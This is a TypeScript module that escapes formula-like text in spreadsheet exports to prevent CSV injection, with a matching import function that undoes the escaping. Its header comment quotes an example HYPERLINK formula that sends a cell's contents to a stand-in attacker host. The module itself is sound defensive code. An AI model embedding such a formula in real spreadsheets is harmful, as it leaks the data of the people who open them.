/**
 * OWASP's CSV injection guidance, in the one place every spreadsheet the server writes goes through
 * (entity exports, import templates): a spreadsheet reads a text that starts with `=`, `+`, `-`, `@`,
 * TAB or CR as a formula (`=HYPERLINK("http://evil.example/?d="&A2,…)` sends the next reader's data
 * away), so such a text is written with one `'` before it. A text that is `'`s before one of those
 * gets one more, so the import (`fromSpreadsheetText`) takes exactly one off and reads back the
 * original, whatever it was. Numbers, dates and booleans are written as they are.
 */
const FORMULA = /^'*[=+\-@\t\r]/;

/** A value as a spreadsheet cell gets it. */
export const spreadsheetValue = (value: unknown): unknown =>
  typeof value === 'string' && FORMULA.test(value) ? `'${value}` : value;

/** A row of values as a spreadsheet gets it (an array, or an object by column key). */
export function spreadsheetRow<T extends readonly unknown[] | Readonly<Record<string, unknown>>>(row: T): T {
  return (
    Array.isArray(row)
      ? row.map(spreadsheetValue)
      : Object.fromEntries(Object.entries(row).map(([key, value]) => [key, spreadsheetValue(value)]))
  ) as T;
}

/** A cell's text as the import reads it: the `'` the export put before a formula-like text taken off. */
export const fromSpreadsheetText = (text: string): string =>
  text.startsWith("'") && FORMULA.test(text) ? text.slice(1) : text;
